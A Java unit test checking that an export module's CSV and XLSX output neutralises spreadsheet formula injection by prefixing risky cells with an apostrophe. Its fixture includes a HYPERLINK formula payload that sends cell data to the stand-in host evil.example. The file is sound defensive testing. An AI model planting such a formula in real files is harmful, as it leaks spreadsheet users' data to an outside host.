package org.orggraph.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/**
 * An export opened in a spreadsheet runs no formula (OWASP "CSV Injection"): text starting with = + - @ is written
 * with a leading apostrophe in CSV and XLSX; numbers stay numbers, other text stays as it is.
 */
class FormulaCellsTest {

    static final List<String> HEADER = List.of("id", "name", "mobile", "note", "birthYear");
    static final List<Object> ROW = List.of("person:1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
            "+86 100 0000 5678", "@SUM(A1:A9)", 1980);

    @Test
    void csvCellsThatASpreadsheetWouldRunAreMarkedAsText() throws IOException {
        String csv = write(TableFormat.CSV);

        assertThat(csv).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\"", "'+86 100 0000 5678",
                "'@SUM(A1:A9)", ",1980", "person:1,");
        assertThat(csv.lines().skip(1).findFirst().orElseThrow()).doesNotContain(",=", ",+", ",@");
    }

    @Test
    void xlsxCellsThatASpreadsheetWouldRunAreTextWithTheMark() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        TableFormat.XLSX.write("Person", HEADER, List.of(ROW), out);

        List<String> cells = new ArrayList<>();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            for (Cell cell : workbook.getSheetAt(0).getRow(1)) {
                assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                cells.add(cell.getCellType() == CellType.NUMERIC ? String.valueOf((long) cell.getNumericCellValue())
                        : cell.getStringCellValue());
            }
        }
        assertThat(cells).containsExactly("person:1", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
                "'+86 100 0000 5678", "'@SUM(A1:A9)", "1980");
    }

    private static String write(TableFormat format) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        format.write("Person", HEADER, List.of(ROW), out);
        return out.toString(StandardCharsets.UTF_8);
    }
}
